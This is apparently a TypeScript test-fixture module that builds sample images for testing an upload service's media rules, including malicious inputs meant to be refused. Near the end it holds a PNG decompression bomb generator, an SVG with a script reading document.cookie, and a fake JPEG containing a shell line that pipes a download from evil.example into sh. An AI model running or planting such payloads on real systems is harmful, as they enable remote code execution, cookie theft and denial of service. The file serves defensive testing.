// Test images made on the fly with sharp (nothing binary in git): a photo-like JPEG with EXIF and GPS
// metadata, other formats, and the bad inputs the media rules refuse.
import { createHash } from 'node:crypto'
import { crc32 } from 'node:zlib'
import sharp from 'sharp'

/** A noisy (so not trivially compressible) image of the given size, encoded as `format`. */
export async function photo(width: number, height: number, format: 'jpeg' | 'png' | 'webp' | 'avif' | 'gif' = 'jpeg', quality = 90): Promise<Buffer> {
  const channels = 3
  const pixels = Buffer.alloc(width * height * channels)
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 7919 + ((i / (width * 3)) | 0) * 31) % 251
  const image = sharp(pixels, { raw: { width, height, channels } })
  if (format === 'jpeg') {
    // GPS coordinates (Valencia) and a camera model: what a phone writes into a photo.
    return image
      .withExif({
        IFD0: { Make: 'TestCam', Model: 'Model 1' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 28/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 22/1 0/1' },
      })
      .jpeg({ quality })
      .toBuffer()
  }
  return image.toFormat(format).toBuffer()
}

/** A JPEG without metadata: the bytes the embedded backend keeps exactly as uploaded. */
export async function plainJpeg(width: number, height: number): Promise<Buffer> {
  return sharp(await photo(width, height))
    .jpeg()
    .toBuffer()
}

/** The MD5 of stored or sent bytes, to tell whether a file is the one uploaded. */
export function md5(data: Buffer | ArrayBuffer): string {
  return createHash('md5')
    .update(Buffer.from(data as ArrayBuffer))
    .digest('hex')
}

/** A valid PNG header declaring `width`×`height` pixels with almost no data: a decompression bomb. */
export function pngBomb(width = 100_000, height = 100_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, crc])
  }
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr.set([8, 0, 0, 0, 0], 8) // 8-bit greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.alloc(0)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export const svgWithScript = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
)

export const scriptNamedJpg = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
